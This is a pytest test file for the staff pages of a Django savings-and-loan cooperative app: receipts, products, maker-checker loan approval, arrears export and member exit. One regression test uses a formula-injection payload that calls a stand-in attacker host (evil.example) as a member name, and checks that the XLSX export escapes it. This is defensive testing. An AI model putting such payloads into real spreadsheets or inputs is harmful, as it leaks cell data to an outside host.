"""Staff pages of savings and loans: lists with search, forms with field errors (invalid POST → 400,
input kept, nothing saved), receipts (HTML and PDF), products, maker-checker, arrears (+ XLSX), exit."""

import datetime
import io
import uuid
from decimal import Decimal

import pytest
from django.urls import reverse

from koperasi.core.navigation import NAVIGATION
from koperasi.ledger.models import FiscalPeriod
from koperasi.money import format_rupiah
from koperasi.tenancy.context import cooperative_context
from members.loans.models import Loan, LoanProduct, LoanStatus
from members.loans.repayments import repay_loan
from members.models import Member, MemberStatus
from members.savings.models import SavingsAccount, SavingsProduct, SavingsTransaction
from tests.factories.members import ActiveMemberFactory, LoanFactory, disbursed_loan, funded_account
from tests.factories.tenancy import user_with_role
from tests.members.page_errors import page_errors

pytestmark = pytest.mark.django_db
D = Decimal


def url(name, coop, **kwargs):
    return reverse(f"members:{name}", kwargs={"slug": coop.slug, **kwargs})


def test_menu_has_savings_loans_arrears_and_the_portal():
    entries = {item.url_name: item.roles for item in NAVIGATION}
    for name in ("members:savings-list", "members:loan-list", "members:arrears"):
        assert entries[name] == frozenset({"manager", "staff", "assessor"})
    assert entries["members:portal"] == frozenset({"member"})


@pytest.fixture
def account(coop):
    with cooperative_context(coop.pk):
        return funded_account("100000", member=ActiveMemberFactory(name="Euis Kurniasih"))


def test_account_list_searches_and_filters(client, coop, staff, account):
    with cooperative_context(coop.pk):
        other = funded_account("5000", member=ActiveMemberFactory(name="Slamet Riyadi"), kind="wajib")
    client.force_login(staff)
    html = client.get(url("savings-list", coop), {"q": "euis"}).content.decode()
    assert account.number in html and other.number not in html
    html = client.get(url("savings-list", coop), {"kind": "wajib"}).content.decode()
    assert other.number in html and account.number not in html


def test_deposit_page_records_and_shows_a_receipt(client, coop, staff, account):
    client.force_login(staff)
    response = client.post(
        url("savings-deposit", coop, pk=account.pk),
        {"deposit-amount": "25000", "deposit-date": "2026-02-01", "deposit-memo": "", "deposit-key": ""},
    )
    assert response.status_code == 302
    receipt = client.get(response["Location"])
    html = receipt.content.decode()
    assert "Rp 25.000,00" in html and "@media print" in html
    with cooperative_context(coop.pk):
        account.refresh_from_db()
        assert account.balance == D("125000")


def test_an_invalid_or_refused_withdrawal_answers_400_keeps_input_and_saves_nothing(client, coop, staff, account):
    client.force_login(staff)
    response = client.post(
        url("savings-withdraw", coop, pk=account.pk),
        {"withdraw-amount": "", "withdraw-date": "2026-02-01", "withdraw-memo": "beli pupuk"},
    )
    assert response.status_code == 400
    assert 'value="beli pupuk"' in response.content.decode()
    assert page_errors(response) == {"withdraw-amount": ["This field is required."]}
    response = client.post(
        url("savings-withdraw", coop, pk=account.pk),
        {"withdraw-amount": "100000.01", "withdraw-date": "2026-02-01", "withdraw-memo": "beli pupuk"},
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert 'value="100000.01"' in html
    assert page_errors(response) == {"withdraw-amount": ["The balance (100000.00) is not enough."]}
    with cooperative_context(coop.pk):
        assert SavingsTransaction.objects.count() == 1
        account.refresh_from_db()
        assert account.balance == D("100000")


def test_receipt_as_pdf(client, coop, staff, account):
    from pypdf import PdfReader

    client.force_login(staff)
    with cooperative_context(coop.pk):
        movement = account.transactions.get()
    response = client.get(url("savings-receipt", coop, pk=movement.pk), {"format": "pdf"})
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'inline; filename="{movement.receipt_number}.pdf"'
    text = PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
    assert "100.000,00" in text and movement.receipt_number in text


def test_loan_receipt_shows_the_split_and_prints_as_pdf(client, coop, staff):
    from pypdf import PdfReader

    with cooperative_context(coop.pk):
        loan = disbursed_loan("1200000", 12, on=datetime.date(2026, 1, 10))
        repayment = repay_loan(actor=staff, loan=loan, amount=D("150000"), date=datetime.date(2026, 2, 20))
    parts = [format_rupiah(repayment.penalty), format_rupiah(repayment.interest), format_rupiah(repayment.principal)]
    assert repayment.penalty > 0 and repayment.penalty + repayment.interest + repayment.principal == D("150000")
    client.force_login(staff)
    page = client.get(url("loan-receipt", coop, pk=repayment.pk))
    html = page.content.decode()
    assert f'<span data-testid="receipt-number">{repayment.receipt_number}</span>' in html
    assert '<td class="num" data-testid="receipt-amount">Rp 150.000,00</td>' in html
    assert all(f'<td class="num">{part}</td>' in html for part in parts)
    assert "Cashier: Kasir A" in html and "@media print" in html and 'href="?format=pdf"' in html
    assert f'href="{url("loan-detail", coop, pk=loan.pk)}"' in html
    response = client.get(url("loan-receipt", coop, pk=repayment.pk), {"format": "pdf"})
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'inline; filename="{repayment.receipt_number}.pdf"'
    text = PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
    assert repayment.receipt_number in text and loan.number in text and "Rp 150.000,00" in text
    assert all(part in text for part in parts) and "Back to the loan" not in text


def test_open_an_account_and_a_term_deposit(client, coop, staff):
    with cooperative_context(coop.pk):
        member = ActiveMemberFactory()
        sukarela = SavingsProduct.objects.get(kind="sukarela")
        berjangka = SavingsProduct.objects.get(kind="berjangka")
    client.force_login(staff)
    form = client.get(url("savings-open", coop), {"member": member.pk})
    assert form.status_code == 200
    assert f'name="member" value="{member}"' in form.content.decode()  # the member comes filled in, named
    bad = client.post(url("savings-open", coop), {"member": "9999", "product": sukarela.pk, "opened_on": "2026-02-01"})
    assert bad.status_code == 400 and 'value="9999"' in bad.content.decode()
    ok = client.post(
        url("savings-open", coop), {"member": member.member_no, "product": sukarela.pk, "opened_on": "2026-02-01"}
    )
    assert ok.status_code == 302
    term = client.post(
        url("term-deposit-open", coop),
        {
            "member": member.member_no,
            "product": berjangka.pk,
            "amount": "500000",
            "term_months": "",
            "date": "2026-02-01",
        },
    )
    assert term.status_code == 400
    assert page_errors(term) == {"amount": ["The smallest deposit is 1000000.00."]}
    term = client.post(
        url("term-deposit-open", coop),
        {
            "member": member.member_no,
            "product": berjangka.pk,
            "amount": "1000000",
            "term_months": "6",
            "date": "2026-02-01",
        },
    )
    assert term.status_code == 302
    with cooperative_context(coop.pk):
        assert SavingsAccount.objects.filter(member=member).count() == 2


# A savings product's interest conventions as the product form posts them (the page fills them in).
CONVENTIONS = {
    "balance_method": "daily",
    "day_basis": "365",
    "day_counting": "actual",
    "tier_mode": "whole",
    "minimum_balance": "0",
    "admin_fee": "0",
    "interest_rounding": "whole",
    "interest_rounding_mode": "half_up",
    "rounding_point": "month",
    "interest_payout": "maturity",
    "rollover": "none",
}


def test_products_are_edited_by_managers_only(client, coop, manager, staff):
    client.force_login(staff)
    listed = client.get(url("savings-products", coop)).content.decode()
    assert all(f">{kind}</td>" in listed for kind in ("pokok", "wajib", "sukarela", "berjangka"))
    assert url("savings-product-create", coop) not in listed  # staff see the products, no New or edit link
    assert client.get(url("savings-product-create", coop)).status_code == 403
    client.force_login(manager)
    data = {"code": "hari-raya", "name": "Simpanan hari raya", "kind": "sukarela", "amount": "10000"}
    bad = client.post(url("savings-product-create", coop), {**data, "interest_rate": "abc"})
    assert bad.status_code == 400
    assert page_errors(bad) == {
        "interest_rate": ["Enter a number."],
        "early_withdrawal_penalty_rate": ["This field is required."],
        **{name: ["This field is required."] for name in CONVENTIONS},
    }
    with cooperative_context(coop.pk):
        assert not SavingsProduct.objects.filter(code="hari-raya").exists()
    ok = client.post(
        url("savings-product-create", coop),
        {
            **data,
            "interest_rate": "4",
            **CONVENTIONS,
            "early_withdrawal_penalty_rate": "0",
            "is_active": "on",
        },
    )
    assert ok.status_code == 302
    with cooperative_context(coop.pk):
        assert SavingsProduct.objects.get(code="hari-raya").interest_rate == D("0.04")
    loan_data = {
        "code": "musiman",
        "name": "Pinjaman musiman",
        "interest_method": "declining",
        "rate": "18",
        "rate_period": "year",
        "min_term_periods": "3",
        "max_term_periods": "12",
        "min_amount": "0",
        "admin_fee_rate": "1",
        "provision_rate": "0",
        "penalty_rate_per_day": "0.1",
        "grace_periods": "0",
        "principal_months": "4-10",
        "rounding": "whole",
        "frequency": "monthly",
        "rate_conversion": "nominal",
        "day_count": "30/360",
        "grace_kind": "interest_only",
        "rounding_mode": "half_up",
        "instalment_rounding": "up",
        "balloon_share": "0",
        "current_max_days": "30",
        "substandard_max_days": "90",
        "doubtful_max_days": "180",
        "is_active": "on",
    }
    bad = client.post(url("loan-product-create", coop), {**loan_data, "principal_months": "13"})
    assert bad.status_code == 400
    assert page_errors(bad) == {"principal_months": ["Give months as numbers 1–12, e.g. 4-10 or 1,2,3."]}
    assert client.post(url("loan-product-create", coop), loan_data).status_code == 302
    with cooperative_context(coop.pk):
        product = LoanProduct.objects.get(code="musiman")
        assert (product.rate, product.rate_period, product.penalty_rate_per_day) == (D("0.18"), "year", D("0.001"))


def test_loan_lifecycle_through_the_pages_with_maker_checker(client, coop, manager, staff):
    other_manager = user_with_role(coop, "manager", username="ketua")
    with cooperative_context(coop.pk):
        member = ActiveMemberFactory()
        product = LoanProduct.objects.get(code="umum")
    client.force_login(manager)
    form = {"member": member.member_no, "product": product.pk, "amount": "50000", "term_periods": "6"}
    bad = client.post(url("loan-apply", coop), {**form, "applied_on": "2026-02-01", "purpose": "Jaring"})
    assert bad.status_code == 400 and 'value="Jaring"' in bad.content.decode()
    assert page_errors(bad) == {"amount": ["The amount must be between 100000.00 and ∞."]}
    response = client.post(url("loan-apply", coop), {**form, "amount": "1200000", "applied_on": "2026-02-01"})
    assert response.status_code == 302
    with cooperative_context(coop.pk):
        loan = Loan.objects.get()
    refused = client.post(url("loan-approve", coop, pk=loan.pk), {"approve-date": "2026-02-02", "approve-note": ""})
    assert refused.status_code == 400 and "maker-checker" in refused.content.decode()
    client.force_login(staff)
    assert client.post(url("loan-approve", coop, pk=loan.pk), {"approve-date": "2026-02-02"}).status_code == 403
    client.force_login(other_manager)
    assert client.post(url("loan-approve", coop, pk=loan.pk), {"approve-date": "2026-02-02"}).status_code == 302
    client.force_login(staff)
    assert client.post(url("loan-disburse", coop, pk=loan.pk), {"disburse-date": "2026-02-03"}).status_code == 302
    detail = client.get(url("loan-detail", coop, pk=loan.pk)).content.decode()
    assert 'data-testid="schedule"' in detail and "3 Mar 2026" in detail  # the first due date
    repaid = client.post(url("loan-repay", coop, pk=loan.pk), {"repay-amount": "218000", "repay-date": "2026-03-03"})
    assert repaid.status_code == 302
    assert "218.000,00" in client.get(repaid["Location"]).content.decode()
    with cooperative_context(coop.pk):
        loan.refresh_from_db()
        assert loan.status == LoanStatus.DISBURSED and loan.repayments.get().principal == D("200000")


def test_arrears_page_and_xlsx(client, coop, staff):
    from openpyxl import load_workbook

    with cooperative_context(coop.pk):
        late = disbursed_loan("1200000", 12, on=datetime.date(2026, 1, 10))
    client.force_login(staff)
    html = client.get(url("arrears", coop)).content.decode()
    assert f'data-testid="arrears-{late.pk}"' in html and late.number in html
    response = client.get(url("arrears", coop), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [row for row in sheet.iter_rows(values_only=True) if row and row[0] == late.number]
    assert rows and rows[0][4] > 200  # days past due


def test_a_member_named_like_a_formula_is_plain_text_in_the_arrears_xlsx(client, coop, staff):
    """The hole: a member called =HYPERLINK(...) became a live formula in the arrears spreadsheet."""
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    with cooperative_context(coop.pk):
        late = disbursed_loan("1200000", 12, on=datetime.date(2026, 1, 10))
        Member.objects.filter(pk=late.member_id).update(name=evil)
    client.force_login(staff)
    response = client.get(url("arrears", coop), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    (cell,) = [row[2] for row in sheet.iter_rows() if row[0].value == late.number]
    assert (cell.value, cell.data_type) == ("'" + evil, "s")


def test_loan_list_uses_a_constant_number_of_queries(client, coop, staff, django_assert_max_num_queries):
    with cooperative_context(coop.pk):
        for _ in range(4):
            disbursed_loan()
        LoanFactory()
    client.force_login(staff)
    with django_assert_max_num_queries(15):
        response = client.get(url("loan-list", coop))
    assert response.content.decode().count('<tr data-testid="loan-') == 5


def test_member_page_shows_savings_and_loans_and_exit_settles(client, coop, manager):
    with cooperative_context(coop.pk):
        member = ActiveMemberFactory()
        funded_account("100000", member=member, kind="pokok")
        funded_account("250000", member=member)
        loan = disbursed_loan("120000", 2, member=member)
    client.force_login(manager)
    html = client.get(url("detail", coop, pk=member.pk)).content.decode()
    assert "Rp 350.000,00" in html and loan.number in html
    page = client.get(url("exit", coop, pk=member.pk)).content.decode()
    assert 'data-testid="settlement"' in page
    bad = client.post(url("exit", coop, pk=member.pk), {"exit_date": "2099-01-01", "exit_reason": "Pindah"})
    assert bad.status_code == 400
    assert page_errors(bad) == {"exit_date": ["The exit date cannot be in the future."]}
    ok = client.post(
        url("exit", coop, pk=member.pk), {"exit_date": "2026-03-01", "exit_reason": "Pindah", "offset_loans": "on"}
    )
    assert ok.status_code == 302
    with cooperative_context(coop.pk):
        member.refresh_from_db()
        loan.refresh_from_db()
        assert member.status == MemberStatus.EXITED and loan.status == LoanStatus.PAID_OFF


@pytest.mark.parametrize("day", ["2099-01-01", "1900-01-01"])
def test_a_deposit_or_repayment_dated_out_of_bounds_is_a_field_error_on_the_page(client, coop, staff, account, day):
    """The hole: such dates were accepted and opened periods of their own (issue 26, item 4)."""
    client.raise_request_exception = False
    client.force_login(staff)
    deposit = client.post(
        url("savings-deposit", coop, pk=account.pk),
        {"deposit-amount": "25000", "deposit-date": day, "deposit-memo": "", "deposit-key": str(uuid.uuid4())},
    )
    assert deposit.status_code == 400
    assert list(page_errors(deposit)) == ["deposit-date"]
    with cooperative_context(coop.pk):
        loan = disbursed_loan("1200000", 12, on=datetime.date(2026, 1, 10))
    body = {"repay-amount": "118000", "repay-date": day, "repay-key": str(uuid.uuid4())}
    repaid = client.post(url("loan-repay", coop, pk=loan.pk), body)
    assert repaid.status_code == 400
    assert list(page_errors(repaid)) == ["repay-date"]
    with cooperative_context(coop.pk):
        assert not FiscalPeriod.objects.filter(year__in=(1900, 2099)).exists()
